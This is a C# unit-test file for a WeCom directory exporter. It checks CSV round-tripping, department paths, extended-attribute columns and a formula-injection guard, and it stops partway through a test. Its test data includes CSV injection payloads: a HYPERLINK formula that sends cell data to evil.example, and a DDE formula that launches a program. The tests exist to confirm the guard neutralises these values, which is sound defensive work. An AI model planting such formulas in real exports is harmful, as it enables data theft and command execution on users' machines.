using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
using WeComExport.Api;
using WeComExport.Blocks;
using WeComExport.Export;
using WeComExport.Records;
using WeComExport.Snapshots;
using Xunit;
using static WeComExport.Tests.Snapshots.CsvSnapshotFolder;

namespace WeComExport.Tests.Snapshots
{
    /// <summary>
    /// SnapshotCsv from block files with hostile values: every field read back exactly (by a strict RFC 4180
    /// reader written here and by TextFieldParser), lists and paths split back into their items, the formula
    /// guard undone by its one documented rule, department names and paths, extended-attribute columns.
    /// </summary>
    public sealed class SnapshotCsvTests : IDisposable
    {
        private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        private const string DdeFormula = "=cmd|' /C calc'!A0";
        private const string MessyPosition = "后台\t工程师\r\nline2 \"quoted\", comma; semi\\slash";

        private readonly CsvSnapshotFolder snapshot = new();

        public void Dispose() => snapshot.Dispose();

        private static Dictionary<string, object?> Obj(params (string Name, object? Value)[] fields) =>
            fields.ToDictionary(f => f.Name, f => f.Value);

        private static Dictionary<string, object?> TextAttr(string name, string value) => Obj(("type", 0), ("name", name), ("text", Obj(("value", value))));

        private static Dictionary<string, object?> WebAttr(string name, string url, string? title) =>
            Obj(("type", 1), ("name", name), ("web", title is null ? Obj(("url", url)) : Obj(("url", url), ("title", title))));

        /// <summary>Four levels under 总部, a name with '/', ';' and '\', children before parents across two blocks.</summary>
        private SnapshotExport Departments() => ExportOf(
            ExportKind.Department,
            snapshot.Block("department.block0000.json", new
            {
                department = new[]
                {
                    Obj(("id", 4), ("name", "小组/A;B\\C"), ("parentid", 3), ("order", 1)),
                    Obj(("id", 3), ("name", "后台组"), ("parentid", 2), ("order", 1), ("department_leader", new[] { "lead;er", "x" })),
                },
            }),
            snapshot.Block("department.block0001.json", new
            {
                department = new[]
                {
                    Obj(("id", 1), ("name", "总部"), ("name_en", "HQ"), ("parentid", 0), ("order", 100)),
                    Obj(("id", 2), ("name", "研发"), ("parentid", 1), ("order", 10), ("future", true)),
                    Obj(("id", 5), ("name", "=市场"), ("parentid", 1), ("order", 5)),
                },
            }));

        private SnapshotExport HostileMembers() => ExportOf(
            ExportKind.User,
            snapshot.Block("user.block0000.json", new
            {
                userlist = new[]
                {
                    Obj(
                        ("userid", "zhangsan"),
                        ("name", Formula),
                        ("department", new[] { 1, 2 }),
                        ("order", new[] { -5, 3 }),
                        ("position", MessyPosition),
                        ("mobile", "+86 13800000000"),
                        ("gender", "1"),
                        ("email", " lead@example.com "),
                        ("biz_mail", "\rcr@example.com"),
                        ("is_leader_in_dept", new[] { 1, 0 }),
                        ("direct_leader", new[] { "a;b", "c\\d", "plain", "" }),
                        ("telephone", "@at"),
                        ("alias", "'quoted alias"),
                        ("status", 1),
                        ("address", "广州市\n海珠区"),
                        ("english_name", "-minus"),
                        ("open_userid", "woAJ2GCAAA"),
                        ("main_department", 2),
                        ("extattr", Obj(("attrs", new[] { TextAttr("工号", "A001"), WebAttr("主页", "https://example.com/u/1", "我的主页") }))),
                        ("qr_code", "https://open.work.weixin.qq.com/wwopen/userQRCode?vcode=x"),
                        ("external_position", "高级工程师"),
                        ("external_profile", Obj(("external_corp_name", "企业简称"), ("external_attr", Array.Empty<object>()))),
                        ("future_field", Obj(("a", 1), ("b", new object?[] { true, null, "引号\"" })))),
                    Obj(
                        ("userid", "lisi"),
                        ("name", "李四"),
                        ("department", Array.Empty<int>()),
                        ("status", 5),
                        ("gender", "2"),
                        ("extattr", Obj(("attrs", new[] { WebAttr("Level", "https://example.com/l", null), TextAttr("level", "lower"), TextAttr("工号", "A002"), TextAttr("工号", "second") })))),
                },
            }),
            snapshot.Block("user.block0001.json", new
            {
                userlist = new[]
                {
                    Obj(
                        ("userid", "wang,wu"),
                        ("name", DdeFormula),
                        ("department", new[] { 4, 99, 5 }),
                        ("position", "\tstarts with a tab"),
                        ("status", 7),
                        ("gender", "x"),
                        ("main_department", 99),
                        ("extattr", Obj(("attrs", new[] { Obj(("type", 2), ("name", "小程序"), ("miniprogram", Obj(("appid", "wx1"), ("pagepath", "/p"), ("title", "小程序标题")))) }))),
                        ("status_detail", "x\ty")),
                    Obj(("userid", "only-id")),
                },
            }));

        /// <summary>Writes the hostile members and the departments, and reads members.csv back.</summary>
        private CsvTable WriteHostile()
        {
            snapshot.Write(HostileMembers(), Departments());
            return snapshot.Table("members.csv");
        }

        [Fact]
        public void The_files_are_UTF8_with_a_BOM_and_CRLF_and_the_result_describes_them_exactly()
        {
            IReadOnlyList<SnapshotFile> files = snapshot.Write(HostileMembers(), Departments());

            Assert.Equal(new[] { "members.csv", "departments.csv" }, files.Select(f => f.Name));
            foreach (SnapshotFile file in files)
            {
                byte[] bytes = snapshot.Bytes(file.Name);
                Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes.Take(3));
                Assert.Equal(bytes.Length, file.Bytes);
                Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), file.Sha256);
                Assert.Equal(new byte[] { (byte)'\r', (byte)'\n' }, bytes.TakeLast(2));
                Assert.Equal(snapshot.Table(file.Name).Rows.Count, file.Records);
            }

            Assert.Equal(4, files[0].Records);
            Assert.Equal(5, files[1].Records);

            // Nothing but the CSV files (and the blocks) is left in the folder: no temporary file.
            Assert.Equal(
                new[] { "department.block0000.json", "department.block0001.json", "departments.csv", "members.csv", "user.block0000.json", "user.block0001.json" },
                snapshot.FilesInFolder());
        }

        [Fact]
        public void The_header_puts_userid_and_name_first_then_what_people_read_then_the_rest_then_ExtAttr_then_AdditionalFields()
        {
            CsvTable members = WriteHostile();

            Assert.Equal(
                new[]
                {
                    "UserId", "Name", "Department", "DepartmentName", "DepartmentPath", "Position", "Mobile", "Email",
                    "Status", "StatusText", "Gender", "GenderText", "MainDepartment", "MainDepartmentName",
                    "IsLeaderInDept", "DirectLeader", "Alias", "EnglishName", "Telephone", "BizMail", "Address",
                    "ExternalPosition", "Order", "OpenUserId", "Avatar", "ThumbAvatar", "QrCode", "ExternalProfile",
                    "ExtAttr.工号", "ExtAttr.主页", "ExtAttr.Level", "ExtAttr.level (2)", "ExtAttr.小程序", "AdditionalFields",
                },
                members.Header);
        }

        [Fact]
        public void Every_hostile_value_reads_back_exactly()
        {
            CsvTable members = WriteHostile();

            Assert.Equal(new[] { "zhangsan", "lisi", "wang,wu", "only-id" }, members.Rows.Select((_, i) => members.Value(i, "UserId")));
            Assert.Equal(Formula, members.Value(0, "Name"));
            Assert.Equal(DdeFormula, members.Value(2, "Name"));
            Assert.Equal(MessyPosition, members.Value(0, "Position"));
            Assert.Equal("+86 13800000000", members.Value(0, "Mobile"));
            Assert.Equal(" lead@example.com ", members.Value(0, "Email"));
            Assert.Equal("\rcr@example.com", members.Value(0, "BizMail"));
            Assert.Equal("@at", members.Value(0, "Telephone"));
            Assert.Equal("'quoted alias", members.Value(0, "Alias"));
            Assert.Equal("-minus", members.Value(0, "EnglishName"));
            Assert.Equal("广州市\n海珠区", members.Value(0, "Address"));
            Assert.Equal("\tstarts with a tab", members.Value(2, "Position"));
            Assert.Equal("高级工程师", members.Value(0, "ExternalPosition"));
            Assert.Equal("woAJ2GCAAA", members.Value(0, "OpenUserId"));
            Assert.Equal("1;2", members.Value(0, "Department"));
            Assert.Equal("-5;3", members.Value(0, "Order"));
            Assert.Equal("1;0", members.Value(0, "IsLeaderInDept"));
            Assert.Equal(new[] { "a;b", "c\\d", "plain", "" }, Cells.SplitList(members.Value(0, "DirectLeader")));
            Assert.Equal("{\"external_corp_name\":\"企业简称\",\"external_attr\":[]}", members.Value(0, "ExternalProfile"));
            Assert.Equal("{\"future_field\":{\"a\":1,\"b\":[true,null,\"引号\\\"\"]}}", members.Value(0, "AdditionalFields"));
            // A mini program's cell is its title: its appid and page path are kept with the whole attribute in AdditionalFields.
            Assert.Equal(
                "{\"status_detail\":\"x\\ty\",\"extattr\":{\"attrs\":[{\"type\":2,\"name\":\"小程序\",\"miniprogram\":{\"appid\":\"wx1\",\"pagepath\":\"/p\",\"title\":\"小程序标题\"}}]}}",
                members.Value(2, "AdditionalFields"));
        }

        [Fact]
        public void The_formula_guard_is_an_apostrophe_in_front_of_exactly_the_cells_that_begin_with_a_trigger_or_an_apostrophe()
        {
            CsvTable members = WriteHostile();

            Assert.Equal("'" + Formula, members.Raw(0, "Name"));
            Assert.Equal("'" + DdeFormula, members.Raw(2, "Name"));
            Assert.Equal("'+86 13800000000", members.Raw(0, "Mobile"));
            Assert.Equal("'-minus", members.Raw(0, "EnglishName"));
            Assert.Equal("'@at", members.Raw(0, "Telephone"));
            Assert.Equal("''quoted alias", members.Raw(0, "Alias"));
            Assert.Equal("'\tstarts with a tab", members.Raw(2, "Position"));
            Assert.Equal("'\rcr@example.com", members.Raw(0, "BizMail"));
            Assert.Equal("'-5;3", members.Raw(0, "Order"));
            Assert.Equal(MessyPosition, members.Raw(0, "Position"));
            Assert.Equal(" lead@example.com ", members.Raw(0, "Email"));

            // No cell of any file begins with a trigger character once read by a CSV reader.
            foreach (string name in new[] { "members.csv", "departments.csv" })
            {
                CsvTable table = snapshot.Table(name);
                foreach (string cell in table.Rows.SelectMany(r => r))
                {
                    Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"{name}: a cell begins with a formula trigger: {cell}");
                }
            }

            // The raw bytes: a guarded cell is quoted, and the quote of a value is doubled.
            string text = Encoding.UTF8.GetString(snapshot.Bytes("members.csv"));
            Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", text, StringComparison.Ordinal);
            Assert.Contains(",\" lead@example.com \",", text, StringComparison.Ordinal);
        }

        [Fact]
        public void Department_names_and_full_paths_stand_beside_the_ids_and_an_unknown_id_gives_empty_items()
        {
            CsvTable members = WriteHostile();

            Assert.Equal(new[] { "总部", "研发" }, Cells.SplitList(members.Value(0, "DepartmentName")));
            Assert.Equal(new[] { "总部", "总部/研发" }, Cells.SplitPaths(members.Value(0, "DepartmentPath")));
            Assert.Equal("研发", members.Value(0, "MainDepartmentName"));

            // Four levels; a name holding '/', ';' and '\' stays one level and one item; 99 is not in the export.
            Assert.Equal("4;99;5", members.Value(2, "Department"));
            Assert.Equal(new[] { "小组/A;B\\C", "", "=市场" }, Cells.SplitList(members.Value(2, "DepartmentName")));
            List<string> paths = Cells.SplitPaths(members.Value(2, "DepartmentPath"));
            Assert.Equal(3, paths.Count);
            Assert.Equal(new[] { "总部", "研发", "后台组", "小组/A;B\\C" }, Cells.SplitPath(paths[0]));
            Assert.Equal(string.Empty, paths[1]);
            Assert.Equal(new[] { "总部", "=市场" }, Cells.SplitPath(paths[2]));
            Assert.Equal(string.Empty, members.Value(2, "MainDepartmentName"));
            Assert.Equal("99", members.Value(2, "MainDepartment"));

            Assert.Equal(string.Empty, members.Value(1, "Department"));
            Assert.Equal(string.Empty, members.Value(1, "DepartmentName"));
            Assert.Equal(string.Empty, members.Value(1, "DepartmentPath"));
        }

        [Fact]
        public void Departments_csv_has_each_path_spelled_as_the_members_path_items_are()
        {
            CsvTable members = WriteHostile();
            CsvTable departments = snapshot.Table("departments.csv");

            Assert.Equal(new[] { "Id", "Name", "Path", "ParentId", "NameEn", "Order", "DepartmentLeader", "AdditionalFields" }, departments.Header);
            Assert.Equal(new[] { "4", "3", "1", "2", "5" }, departments.Rows.Select(r => r[0]));
            Assert.Equal("小组/A;B\\C", departments.Value(0, "Name"));
            Assert.Equal(new[] { "总部", "研发", "后台组", "小组/A;B\\C" }, Cells.SplitPath(departments.Value(0, "Path")));
            Assert.Equal(Cells.SplitPaths(members.Value(2, "DepartmentPath"))[0], departments.Value(0, "Path"));
            Assert.Equal("3", departments.Value(0, "ParentId"));
            Assert.Equal(new[] { "lead;er", "x" }, Cells.SplitList(departments.Value(1, "DepartmentLeader")));
            Assert.Equal("总部", departments.Value(2, "Path"));
            Assert.Equal("HQ", departments.Value(2, "NameEn"));
            Assert.Equal("0", departments.Value(2, "ParentId"));
            Assert.Equal("100", departments.Value(2, "Order"));
            Assert.Equal("{\"future\":true}", departments.Value(3, "AdditionalFields"));
            Assert.Equal("'=市场", departments.Raw(4, "Name"));
        }

        [Fact]
        public void Each_extended_attribute_name_gets_a_column_with_the_text_the_url_or_title_and_url()
        {
            CsvTable members = WriteHostile();

            Assert.Equal("A001", members.Value(0, "ExtAttr.工号"));
            Assert.Equal("我的主页 <https://example.com/u/1>", members.Value(0, "ExtAttr.主页"));
            Assert.Equal(string.Empty, members.Value(0, "ExtAttr.Level"));

            // Names that differ only in case get columns Import-Csv can tell apart; a repeated name keeps the first value.
            Assert.Equal("https://example.com/l", members.Value(1, "ExtAttr.Level"));
            Assert.Equal("lower", members.Value(1, "ExtAttr.level (2)"));
            Assert.Equal("A002", members.Value(1, "ExtAttr.工号"));

            Assert.Equal("小程序标题", members.Value(2, "ExtAttr.小程序"));
            Assert.All(members.Header.Where(h => h.StartsWith("ExtAttr.", StringComparison.Ordinal)), h => Assert.Equal(string.Empty, members.Value(3, h)));
        }

        [Fact]
        public void Status_and_gender_are_also_words_and_absent_fields_are_empty_cells()
        {
            CsvTable members = WriteHostile();

            Assert.Equal(new[] { "1", "5", "7", string.Empty }, members.Rows.Select((_, i) => members.Value(i, "Status")));
            Assert.Equal(new[] { "Active", "Left", "7", string.Empty }, members.Rows.Select((_, i) => members.Value(i, "StatusText")));
            Assert.Equal(new[] { "Male", "Female", "x", string.Empty }, members.Rows.Select((_, i) => members.Value(i, "GenderText")));
            Assert.Equal(new[] { "Active", "Disabled", "NotActivated", "Left" }, new int?[] { 1, 2, 4, 5 }.Select(SnapshotCsv.StatusText));
            Assert.Equal("Unknown", SnapshotCsv.GenderText("0"));

            // The member with nothing but a userid: every other cell is empty.
            Assert.All(members.Header.Skip(1), column => Assert.Equal(string.Empty, members.Raw(3, column)));
        }

        [Fact]
        public void Without_a_department_export_the_names_and_paths_are_empty_items_and_no_departments_csv_is_written()
        {
            IReadOnlyList<SnapshotFile> files = snapshot.Write(HostileMembers());
            CsvTable members = snapshot.Table("members.csv");

            Assert.Equal(new[] { "members.csv" }, files.Select(f => f.Name));
            Assert.Equal(";", members.Value(0, "DepartmentName"));
            Assert.Equal(new[] { string.Empty, string.Empty }, Cells.SplitPaths(members.Value(0, "DepartmentPath")));
            Assert.False(File.Exists(Path.Combine(snapshot.Path, "departments.csv")));
        }

        [Fact]
        public void A_simple_member_export_has_the_same_columns_with_the_detail_cells_empty()
        {
            SnapshotExport simple = ExportOf(
                ExportKind.SimpleUser,
                snapshot.Block("simple_user.block0000.json", new { userlist = new[] { Obj(("userid", "zhangsan"), ("name", "张三"), ("department", new[] { 1, 2 }), ("open_userid", "xxxxxx")) } }));

            snapshot.Write(simple, Departments());
            CsvTable members = snapshot.Table("members.csv");

            Assert.Equal(29, members.Header.Length);
            Assert.Equal(new[] { "zhangsan", "张三", "1;2", "总部;研发", "总部;总部/研发" }, members.Rows[0].Take(5));
            Assert.Equal("xxxxxx", members.Value(0, "OpenUserId"));
            Assert.Equal(string.Empty, members.Value(0, "Position"));
        }

        [Fact]
        public void Tag_members_of_every_tag_go_into_one_file_with_TagId_and_TagName()
        {
            SnapshotExport tag1 = ExportOf(
                ExportKind.TagUser,
                1,
                "乒乓球协会",
                snapshot.Block("taguser-1.block0000.json", new { tagname = "乒乓球协会", userlist = new[] { Obj(("userid", "zhangsan"), ("name", "=张三")) }, partylist = new[] { 4, 99 } }));
            SnapshotExport tag7 = ExportOf(
                ExportKind.TagUser,
                7,
                "from the job",
                snapshot.Block("taguser-7.block0000.json", new { tagname = "羽毛球, \"社\"", userlist = Array.Empty<object>(), partylist = new[] { 2 } }),
                snapshot.Block("taguser-7.block0001.json", new { tagname = "羽毛球, \"社\"", userlist = new[] { Obj(("userid", "lisi"), ("name", "李四"), ("extra", 1)) }, partylist = Array.Empty<int>() }));

            IReadOnlyList<SnapshotFile> files = snapshot.Write(tag1, Departments(), tag7);
            CsvTable tags = snapshot.Table("tag-members.csv");

            Assert.Equal(new[] { "departments.csv", "tag-members.csv" }, files.Select(f => f.Name));
            Assert.Equal(new[] { "TagId", "TagName", "MemberType", "UserId", "Name", "DepartmentId", "DepartmentName", "DepartmentPath", "AdditionalFields" }, tags.Header);
            Assert.Equal(5, files[1].Records);
            Assert.Equal(new[] { "1", "乒乓球协会", "User", "zhangsan", "=张三", "", "", "", "" }, tags.Rows[0].Select(Cells.Unguard));
            Assert.Equal(new[] { "1", "乒乓球协会", "Department", "", "", "4", "小组/A;B\\C", "总部/研发/后台组/小组\\/A\\;B\\\\C", "" }, tags.Rows[1]);
            Assert.Equal(new[] { "1", "乒乓球协会", "Department", "", "", "99", "", "", "" }, tags.Rows[2]);
            Assert.Equal(new[] { "7", "羽毛球, \"社\"", "Department", "", "", "2", "研发", "总部/研发", "" }, tags.Rows[3]);
            Assert.Equal(new[] { "7", "羽毛球, \"社\"", "User", "lisi", "李四", "", "", "", "{\"extra\":1}" }, tags.Rows[4]);
        }

        [Fact]
        public void Rows_follow_block_order_across_files()
        {
            var files = Enumerable.Range(0, 3)
                .Select(b => snapshot.Block($"user.block{b:D4}.json", new { userlist = Enumerable.Range(0, 5).Select(i => Obj(("userid", $"u{b}-{i}"))).ToArray() }))
                .ToArray();

            snapshot.Write(ExportOf(ExportKind.User, files));
            CsvTable members = snapshot.Table("members.csv");

            Assert.Equal(Enumerable.Range(0, 15).Select(n => $"u{n / 5}-{n % 5}"), members.Rows.Select(r => r[0]));
        }

        [Fact]
        public void A_path_stops_at_a_parent_loop_and_at_the_depth_limit()
        {
            var chain = Enumerable.Range(1, 100).Select(i => Obj(("id", i), ("name", "d" + i), ("parentid", i - 1))).ToList();
            chain.Add(Obj(("id", 200), ("name", "loopA"), ("parentid", 201)));
            chain.Add(Obj(("id", 201), ("name", "loopB"), ("parentid", 200)));
            chain.Add(Obj(("id", 300), ("name", "self"), ("parentid", 300)));
            chain.Add(Obj(("id", 400), ("name", "L400"), ("parentid", 401)));
            chain.Add(Obj(("id", 401), ("name", "L401"), ("parentid", 402)));
            chain.Add(Obj(("id", 402), ("name", "L402"), ("parentid", 400)));
            chain.Add(Obj(("id", 410), ("name", "L410"), ("parentid", 400)));
            SnapshotExport departments = ExportOf(ExportKind.Department, snapshot.Block("department.block0000.json", new { department = chain }));

            snapshot.Write(departments);
            CsvTable table = snapshot.Table("departments.csv");
            string PathOf(string id) => table.Value(table.Rows.FindIndex(r => r[0] == id), "Path");

            Assert.Equal("d1/d2/d3", PathOf("3"));
            Assert.Equal(Enumerable.Range(37, 64).Select(i => "d" + i), Cells.SplitPath(PathOf("100")));
            Assert.Equal(Enumerable.Range(1, 64).Select(i => "d" + i), Cells.SplitPath(PathOf("64")));
            Assert.Equal(Enumerable.Range(2, 64).Select(i => "d" + i), Cells.SplitPath(PathOf("65")));
            Assert.Equal("loopB/loopA", PathOf("200"));
            Assert.Equal("self", PathOf("300"));
            Assert.Equal("loopA/loopB", PathOf("201"));

            // Each department of a longer loop, and one below it, gets every level once (a path cut at the loop is never built on).
            Assert.Equal("L402/L401/L400", PathOf("400"));
            Assert.Equal("L400/L402/L401", PathOf("401"));
            Assert.Equal("L401/L400/L402", PathOf("402"));
            Assert.Equal("L402/L401/L400/L410", PathOf("410"));
        }

        [Fact]
        public void An_existing_csv_is_replaced_and_on_Unix_every_file_is_the_owners_only()
        {
            File.WriteAllText(Path.Combine(snapshot.Path, "members.csv"), "old");
            snapshot.Write(HostileMembers(), Departments());

            Assert.StartsWith("UserId,", Encoding.UTF8.GetString(snapshot.Bytes("members.csv")).TrimStart('\uFEFF'), StringComparison.Ordinal);
            if (!OperatingSystem.IsWindows())
            {
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(snapshot.Path, "members.csv")));
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(snapshot.Path, "departments.csv")));
            }
        }

        [Fact]
        public void A_damaged_block_file_is_named_in_the_error_and_no_csv_is_published()
        {
            SnapshotExport departments = Departments();
            SnapshotExport members = ExportOf(
                ExportKind.User,
                snapshot.Block("user.block0000.json", new { userlist = new[] { Obj(("userid", "a")) } }),
                snapshot.RawBlock("user.block0001.json", "{\"userlist\":[{\"userid\":\"b\"},"));

            var e = Assert.Throws<ExportFormatException>(() => snapshot.Write(members, departments));

            Assert.Contains("user.block0001.json", e.Message, StringComparison.Ordinal);
            Assert.DoesNotContain(snapshot.FilesInFolder(), n => n.EndsWith(".csv", StringComparison.Ordinal) || n.EndsWith(".tmp", StringComparison.Ordinal));
        }

        [Fact]
        public void A_block_of_another_kind_is_a_kind_mismatch_naming_the_file()
        {
            SnapshotExport wrong = ExportOf(ExportKind.User, snapshot.Block("user.block0000.json", new { department = Array.Empty<object>() }));

            var e = Assert.Throws<ExportKindMismatchException>(() => snapshot.Write(wrong));

            Assert.Contains("user.block0000.json", e.Message, StringComparison.Ordinal);
        }

        private static void NoteColumns(ExtAttrColumns columns, string blockFile, int take = int.MaxValue)
        {
            using FileStream file = File.OpenRead(blockFile);
            foreach (WeComRecord record in ExportRecordReader.Read(file, ExportKind.User, null, CancellationToken.None).Take(take))
            {
                columns.Note((WeComUser)record);
            }
        }

        private List<WeComRecord> Records(SnapshotExport export, ExportKind kind)
        {
            var records = new List<WeComRecord>();
            foreach (SnapshotFile file in export.Files)
            {
                using FileStream stream = File.OpenRead(System.IO.Path.Combine(snapshot.Path, file.Name));
                records.AddRange(ExportRecordReader.Read(stream, kind, null, CancellationToken.None));
            }

            return records;
        }

        [Fact]
        public async Task Rows_written_with_every_column_known_first_are_the_rows_widened_for_names_that_came_late()
        {
            SnapshotExport members = HostileMembers();
            SnapshotExport departments = Departments();
            snapshot.Write(members, departments);
            byte[] widened = snapshot.Bytes("members.csv");

            // The hostile members name attributes late (rows 2 and 3): written without knowing them, the earlier rows
            // were widened afterwards. Knowing every name before the first row gives rows that need no widening.
            var columns = new ExtAttrColumns();
            var first = new ExtAttrColumns();
            foreach (SnapshotFile file in members.Files)
            {
                NoteColumns(columns, System.IO.Path.Combine(snapshot.Path, file.Name));
            }

            NoteColumns(first, System.IO.Path.Combine(snapshot.Path, members.Files[0].Name), take: 1);
            Assert.True(columns.ByName.Count > first.ByName.Count);

            var directory = new DepartmentDirectory();
            foreach (WeComRecord department in Records(departments, ExportKind.Department))
            {
                directory.Add((WeComDepartment)department);
            }

            using var rows = new MemberRows(snapshot.Path, directory, columns);
            foreach (WeComRecord user in Records(members, ExportKind.User))
            {
                rows.Add((WeComUser)user);
            }

            await SnapshotCsv.WriteAsync(snapshot.Path, new[] { members, departments }, rows, CancellationToken.None);
            Assert.Equal(widened, snapshot.Bytes("members.csv"));
        }

        [Fact]
        public void Member_rows_whose_header_lacked_a_name_stop_widening_at_a_cancellation_and_leave_no_file()
        {
            SnapshotExport members = HostileMembers();
            using var cancelled = new CancellationTokenSource();
            cancelled.Cancel();
            string temp = System.IO.Path.Combine(snapshot.Path, ".members.csv.test.tmp");
            using (var rows = new MemberRows(snapshot.Path, new DepartmentDirectory(), null))
            {
                foreach (WeComRecord user in Records(members, ExportKind.User))
                {
                    rows.Add((WeComUser)user);
                }

                Assert.ThrowsAny<OperationCanceledException>(() => rows.WriteTo(temp, cancelled.Token));
                File.Delete(temp);
            }

            Assert.Equal(members.Files.Select(f => f.Name).OrderBy(n => n, StringComparer.Ordinal), snapshot.FilesInFolder());
        }

        [Fact]
        public void Extended_attributes_of_shapes_the_cell_rules_do_not_know_keep_what_they_hold_as_json()
        {
            SnapshotExport members = ExportOf(ExportKind.User, snapshot.Block("user.block0000.json", new
            {
                userlist = new object[]
                {
                    Obj(
                        ("userid", "a"),
                        ("extattr", Obj(("attrs", new object[]
                        {
                            Obj(("type", 9), ("name", "future"), ("future", Obj(("x", 1)))),
                            Obj(("type", 0), ("name", "plain"), ("text", "not an object")),
                            TextAttr("known", "v"),
                            5,
                        })))),
                    Obj(("userid", "b"), ("extattr", Obj(("attrs", "oops"), ("note", "n"))), ("hobby", "chess")),
                },
            }));

            snapshot.Write(members);
            CsvTable table = snapshot.Table("members.csv");

            Assert.Equal("{\"future\":{\"x\":1}}", table.Value(0, "ExtAttr.future"));
            Assert.Equal("{\"text\":\"not an object\"}", table.Value(0, "ExtAttr.plain"));
            Assert.Equal("v", table.Value(0, "ExtAttr.known"));
            Assert.Equal("{\"value\":5}", table.Value(0, "ExtAttr."));
            Assert.Equal(
                "{\"extattr\":{\"attrs\":[{\"type\":9,\"name\":\"future\",\"future\":{\"x\":1}},{\"type\":0,\"name\":\"plain\",\"text\":\"not an object\"},"
                + "{\"type\":0,\"name\":\"known\",\"text\":{\"value\":\"v\"}},{\"type\":0,\"value\":5}]}}",
                table.Value(0, "AdditionalFields"));
            Assert.Equal(string.Empty, table.Value(1, "ExtAttr.future"));
            Assert.Equal("{\"hobby\":\"chess\",\"extattr\":{\"attrs\":\"oops\",\"note\":\"n\"}}", table.Value(1, "AdditionalFields"));
        }

        [Fact]
        public void A_member_whose_attribute_cells_cannot_hold_all_its_attributes_hold_has_them_all_as_sent_in_AdditionalFields()
        {
            object Web(string url, string title) => Obj(("url", url), ("title", title));
            SnapshotExport members = ExportOf(ExportKind.User, snapshot.Block("user.block0000.json", new
            {
                userlist = new object[]
                {
                    Obj(("userid", "whole"), ("extattr", Obj(("attrs", new[] { TextAttr("工号", "A1"), WebAttr("主页", "https://u.example/", "主页") })))),
                    Obj(("userid", "both"), ("extattr", Obj(("attrs", new[] { Obj(("type", 0), ("name", "工号"), ("text", Obj(("value", "A2"))), ("web", Web("https://w.example/", "W"))) })))),
                    Obj(("userid", "extra"), ("extattr", Obj(("attrs", new[] { Obj(("type", 1), ("name", "主页"), ("web", Obj(("url", "https://x.example/"), ("title", "X"), ("extra_w", 1)))) })))),
                    Obj(("userid", "twice"), ("extattr", Obj(("attrs", new[] { TextAttr("工号", "A3"), TextAttr("工号", "第二个") })))),
                    Obj(("userid", "nameless"), ("extattr", Obj(("attrs", new[] { Obj(("type", 0), ("text", Obj(("value", "无名")))) })))),
                },
            }));

            snapshot.Write(members);
            CsvTable table = snapshot.Table("members.csv");
            string Extras(string id) => table.Value(table.Rows.FindIndex(r => r[0] == id), "AdditionalFields");

            Assert.Equal(string.Empty, Extras("whole"));
            Assert.Equal("{\"extattr\":{\"attrs\":[{\"type\":0,\"name\":\"工号\",\"text\":{\"value\":\"A2\"},\"web\":{\"url\":\"https://w.example/\",\"title\":\"W\"}}]}}", Extras("both"));
            Assert.Equal("{\"extattr\":{\"attrs\":[{\"type\":1,\"name\":\"主页\",\"web\":{\"url\":\"https://x.example/\",\"title\":\"X\",\"extra_w\":1}}]}}", Extras("extra"));
            Assert.Contains("第二个", Extras("twice"), StringComparison.Ordinal);
            Assert.Equal("{\"extattr\":{\"attrs\":[{\"type\":0,\"text\":{\"value\":\"无名\"}}]}}", Extras("nameless"));

            // The cells are as before: the first value of a name, the text of a text attribute.
            Assert.Equal("A3", table.Value(table.Rows.FindIndex(r => r[0] == "twice"), "ExtAttr.工号"));
            Assert.Equal("A2", table.Value(table.Rows.FindIndex(r => r[0] == "both"), "ExtAttr.工号"));
        }

        [Fact]
        public void Member_rows_refuse_the_name_past_the_column_limit_as_it_arrives_and_leave_no_file()
        {
            var users = Enumerable.Range(0, SnapshotCsv.MaxExtAttrColumns + 1)
                .Select(i => Obj(("userid", "u" + i), ("extattr", Obj(("attrs", new[] { TextAttr("attr" + i, "v") })))))
                .ToArray();
            SnapshotExport members = ExportOf(ExportKind.User, snapshot.Block("user.block0000.json", new { userlist = users }));
            WeComException? e = null;
            long written;
            using (var rows = new MemberRows(snapshot.Path, new DepartmentDirectory(), null))
            {
                foreach (WeComRecord user in Records(members, ExportKind.User))
                {
                    try
                    {
                        rows.Add((WeComUser)user);
                    }
                    catch (WeComException caught)
                    {
                        e = caught;
                        break;
                    }
                }

                written = rows.Count;
            }

            Assert.NotNull(e);
            Assert.Equal(WeComErrors.CsvTooManyColumns.ErrorId, e!.ErrorId);
            Assert.Equal(SnapshotCsv.MaxExtAttrColumns, written);
            Assert.Equal(new[] { "user.block0000.json" }, snapshot.FilesInFolder());
        }

        [Fact]
        public void More_extended_attribute_names_than_columns_allowed_is_a_catalogue_error()
        {
            var users = Enumerable.Range(0, SnapshotCsv.MaxExtAttrColumns + 1)
                .Select(i => Obj(("userid", "u" + i), ("extattr", Obj(("attrs", new[] { TextAttr("attr" + i, "v") })))))
                .ToArray();
            SnapshotExport members = ExportOf(ExportKind.User, snapshot.Block("user.block0000.json", new { userlist = users }));

            var e = Assert.Throws<WeComException>(() => snapshot.Write(members));

            Assert.Equal(WeComErrors.CsvTooManyColumns.ErrorId, e.ErrorId);
            Assert.Equal(WeComErrorKind.LimitExceeded, e.Kind);
            Assert.DoesNotContain(snapshot.FilesInFolder(), n => n.EndsWith(".csv", StringComparison.Ordinal) || n.EndsWith(".tmp", StringComparison.Ordinal));
        }

        [Fact]
        public void Two_member_exports_or_two_department_exports_are_refused_before_anything_is_read()
        {
            SnapshotExport simple = ExportOf(ExportKind.SimpleUser, new SnapshotFile("missing.json", 0, "", 0));
            SnapshotExport user = ExportOf(ExportKind.User, new SnapshotFile("missing.json", 0, "", 0));
            SnapshotExport department = ExportOf(ExportKind.Department, new SnapshotFile("missing.json", 0, "", 0));

            Assert.Throws<ArgumentException>(() => { _ = SnapshotCsv.WriteAsync(snapshot.Path, new[] { simple, user }, CancellationToken.None); });
